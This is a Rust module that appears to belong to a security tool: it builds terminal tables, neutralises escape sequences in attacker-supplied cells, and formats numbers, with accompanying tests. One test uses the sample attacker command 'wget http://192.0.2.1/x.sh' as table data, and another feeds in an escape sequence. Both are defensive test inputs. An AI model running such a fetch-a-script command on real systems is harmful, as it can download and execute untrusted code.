//! Tables of plain text, and numbers that can be read.

use std::fmt;

use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

use crate::safe;

/// On which side of its column a cell stands.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Align {
    /// Texts.
    Left,
    /// Numbers.
    Right,
}

/// A table whose columns are as wide as they are on a terminal. Cells are made harmless as they
/// come in, so that a table may show what attackers typed.
#[derive(Clone, Debug)]
pub struct Table {
    columns: Vec<(String, Align)>,
    rows: Vec<Vec<String>>,
    max_width: Option<usize>,
}

/// A column of text is not cut below this many cells of the terminal.
const MIN_COLUMN_WIDTH: usize = 8;

const GAP: &str = "  ";

impl Table {
    /// A table with these columns and no rows.
    pub fn new(columns: &[(&str, Align)]) -> Self {
        let columns = columns.iter().map(|(title, align)| ((*title).to_owned(), *align)).collect();
        Self { columns, rows: Vec::new(), max_width: None }
    }

    /// Cuts texts, widest column first, until the table fits into `width` cells.
    #[must_use]
    pub fn with_max_width(mut self, width: usize) -> Self {
        self.max_width = Some(width);
        self
    }

    /// Adds a row. Missing cells are empty; cells beyond the last column are dropped.
    pub fn row<Cell: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = Cell>) -> &mut Self {
        let cells = cells.into_iter().map(|cell| safe::terminal(cell.as_ref()).into_owned());
        let mut row: Vec<String> = cells.take(self.columns.len()).collect();
        row.resize(self.columns.len(), String::new());
        self.rows.push(row);
        self
    }

    fn widths(&self) -> Vec<usize> {
        let mut widths: Vec<usize> = self.columns.iter().map(|(title, _)| title.width()).collect();
        for row in &self.rows {
            for (width, cell) in widths.iter_mut().zip(row) {
                *width = (*width).max(cell.width());
            }
        }
        if let Some(max_width) = self.max_width {
            self.shrink(&mut widths, max_width);
        }
        widths
    }

    fn shrink(&self, widths: &mut [usize], max_width: usize) {
        let gaps = GAP.len() * widths.len().saturating_sub(1);
        while widths.iter().sum::<usize>() + gaps > max_width {
            let texts = widths.iter_mut().zip(&self.columns);
            let widest = texts
                .filter(|(width, (_, align))| *align == Align::Left && **width > MIN_COLUMN_WIDTH)
                .max_by_key(|(width, _)| **width);
            match widest {
                Some((width, _)) => *width -= 1,
                None => return,
            }
        }
    }

    fn write_row<'a>(
        &self,
        f: &mut fmt::Formatter<'_>,
        cells: impl Iterator<Item = &'a str>,
        widths: &[usize],
    ) -> fmt::Result {
        let mut line = String::new();
        for ((cell, width), (_, align)) in cells.zip(widths).zip(&self.columns) {
            let cell = cut(cell, *width);
            let padding = " ".repeat(width - cell.width());
            let (before, after) =
                if *align == Align::Left { ("", &*padding) } else { (&*padding, "") };
            line.extend([before, &cell, after, GAP]);
        }
        writeln!(f, "{}", line.trim_end())
    }
}

impl fmt::Display for Table {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let widths = self.widths();
        self.write_row(f, self.columns.iter().map(|(title, _)| title.as_str()), &widths)?;
        for row in &self.rows {
            self.write_row(f, row.iter().map(String::as_str), &widths)?;
        }
        Ok(())
    }
}

/// The number with commas between its thousands.
pub fn thousands(number: u64) -> String {
    let digits = number.to_string();
    let mut text = String::with_capacity(digits.len() + digits.len() / 3);
    for (index, digit) in digits.chars().enumerate() {
        if index > 0 && (digits.len() - index).is_multiple_of(3) {
            text.push(',');
        }
        text.push(digit);
    }
    text
}

/// As much of the text as fits, with an ellipsis where something is missing.
fn cut(text: &str, width: usize) -> String {
    if text.width() <= width {
        return text.to_owned();
    }
    let mut used = 1;
    let fits = |c: &char| {
        used += c.width().unwrap_or_default();
        used <= width
    };
    let mut short: String = text.chars().take_while(fits).collect();
    short.push('…');
    short
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[track_caller]
    fn check(table: &Table, expected: &[&str]) {
        let text = table.to_string();
        assert_eq!(text.lines().collect::<Vec<_>>(), expected);
    }

    #[test]
    fn columns_are_as_wide_as_a_terminal_shows_them() {
        let mut table = Table::new(&[("name", Align::Left), ("count", Align::Right)]);
        check(&table, &["name  count"]);
        table
            .row(["root", "1"])
            .row(["密码密码", "12,345,678"])
            .row(["ü"])
            .row(["\x1b[m", "0", "x"]);
        check(
            &table,
            &[
                "name           count",
                "root               1",
                "密码密码  12,345,678",
                "ü",
                "\\u{1b}[m           0",
            ],
        );
    }

    #[test]
    fn texts_are_cut_and_numbers_are_not() {
        let columns = [("command", Align::Left), ("who", Align::Left), ("n", Align::Right)];
        let mut table = Table::new(&columns).with_max_width(24);
        table.row(["wget http://192.0.2.1/x.sh", "10.0.0.1", "1,000"]);
        check(&table, &["command   who           n", "wget ht…  10.0.0.1  1,000"]);
    }

    #[test]
    fn thousands_are_parted() {
        for (number, text) in [
            (0, "0"),
            (999, "999"),
            (1000, "1,000"),
            (12_345, "12,345"),
            (1_680_000, "1,680,000"),
            (u64::MAX, "18,446,744,073,709,551,615"),
        ] {
            assert_eq!(thousands(number), text);
        }
    }

    proptest! {
        #[test]
        fn a_table_has_one_line_for_each_row(cells in prop::collection::vec(any::<String>(), 0..8), width in 0usize..60) {
            let mut table = Table::new(&[("a", Align::Left), ("b", Align::Right)]).with_max_width(width);
            for pair in cells.chunks(2) {
                table.row(pair);
            }
            let text = table.to_string();
            prop_assert_eq!(text.lines().count(), cells.chunks(2).count() + 1);
            prop_assert!(text.lines().all(|line| !line.contains(char::is_control)));
        }

        #[test]
        fn what_is_cut_fits(text in any::<String>(), width in 1usize..20) {
            prop_assert!(cut(&safe::terminal(&text), width).width() <= width);
        }
    }
}
